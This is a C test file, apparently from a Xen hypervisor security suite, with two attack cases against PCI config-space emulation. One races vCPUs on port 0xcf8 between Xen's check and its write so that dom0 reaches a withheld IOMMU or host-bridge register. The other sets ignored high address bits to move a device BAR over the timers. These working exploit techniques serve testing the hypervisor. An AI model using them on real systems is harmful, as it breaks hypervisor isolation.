// SPDX-License-Identifier: GPL-2.0-only
/*
 * Write to one register what Xen judges as a write to another.
 *
 * Xen keeps what dom0 has written to port 0xcf8, once for all its vCPUs. It looks
 * at it to judge what one of them writes to 0xcfc, and again to write it.
 */
#include "registers.h"

#include <pthread.h>
#include <time.h>

#include "../user/frames/paging.h"

static volatile bool judged;

static uint32_t config_address(uint16_t at, unsigned int reg)
{
    return 1U << 31 | (uint32_t)at << 8 | reg;
}

/* A register of edu's that only stores, and one that is not dom0's to write. */
#define LINE    0x3c
#define SCRATCH 0xdc /* of the host bridge */
#define BAR     0x10

static uint32_t allowed_address, other_address;

static void *turn_address(void *unused)
{
    stay_on_cpu(1);
    while ( !judged )
    {
        port_out(0xcf8, 4, allowed_address);
        port_out(0xcf8, 4, other_address);
    }

    return unused;
}

/*
 * Have a vCPU write @value to 0xcfc, while another turns the address to and fro
 * between the two, until the register that must not change has. False if there
 * is but one vCPU. It pauses now and then: an emulator that does nothing but move
 * devices has no time for clocks.
 */
static bool race(unsigned int width, uint32_t value, bool (*has_changed)(void))
{
    static const time_t seconds = 5;
    static const struct timespec pause = { .tv_nsec = 1000000 };
    const time_t end = time(NULL) + seconds;
    pthread_t other;

    judged = false;
    if ( pthread_create(&other, NULL, turn_address, NULL) )
        return false;
    stay_on_cpu(0);
    do
    {
        for ( unsigned int i = 0; i < 1000; i++ )
            port_out(0xcfc, width, value);
        nanosleep(&pause, NULL);
    } while ( !has_changed() && time(NULL) < end );
    judged = true;
    pthread_join(other, NULL);

    return true;
}

#define MARK 0x5a

static uint16_t withheld_at;
static unsigned int withheld_reg;

static bool withheld_changed(void)
{
    return config_read(withheld_at, withheld_reg, 1) == MARK;
}

/*
 * K-CONFIG-RACE: the register is one that is withheld: the IOMMU's where there
 * is one.
 */
KERNEL_PV_ATTACK("K-CONFIG-RACE", "turn the address between check and write",
                 "for a PVH dom0 Xen looks at it once")
{
    const uint16_t iommu = iommu_function();
    const uint32_t line = config_read(EDU, LINE, 1);
    uint32_t before;
    bool changed;

    if ( sysconf(_SC_NPROCESSORS_ONLN) < 2 )
        return not_applicable("dom0 has one vCPU");
    withheld_at = iommu ? iommu : HOST_BRIDGE;
    withheld_reg = iommu ? LINE : SCRATCH;
    before = config_read(withheld_at, withheld_reg, 1);
    allowed_address = config_address(EDU, LINE);
    other_address = config_address(withheld_at, withheld_reg);
    if ( !race(1, MARK, withheld_changed) )
        return cannot_try("no second thread");
    changed = withheld_changed();
    config_write(EDU, LINE, 1, line);
    config_write(withheld_at, withheld_reg, 1, before);

    return effect(changed, "a register of %s %s",
                  iommu ? "the IOMMU's" : "the host bridge's",
                  changed ? "changed" : "as it was");
}

#define TIMERS 0xfed00000U

static bool bar_changed(void)
{
    return config_read(EDU, BAR, 4) == TIMERS;
}

/*
 * K-CONFIG-HIGH: the address has bits that make a register behind 0xff of it on
 * some processors, where nothing is judged; and that this one ignores.
 */
KERNEL_PV_ATTACK("K-CONFIG-HIGH",
                 "turn on bits of the address that count for nothing",
                 "for a PVH dom0 Xen looks at it once")
{
    static const uint32_t high = 1U << 24;
    const uint32_t before = config_read(EDU, BAR, 4),
                   line = config_read(EDU, LINE, 4);
    bool changed;

    if ( sysconf(_SC_NPROCESSORS_ONLN) < 2 )
        return not_applicable("dom0 has one vCPU");
    allowed_address = config_address(EDU, LINE);
    other_address = config_address(EDU, BAR) | high;
    if ( !race(4, TIMERS, bar_changed) )
        return cannot_try("no second thread");
    changed = bar_changed();
    config_write(EDU, BAR, 4, before);
    config_write(EDU, LINE, 4, line);

    return effect(changed, "where a device decodes %s",
                  changed ? "was over the timers" : "as it was");
}
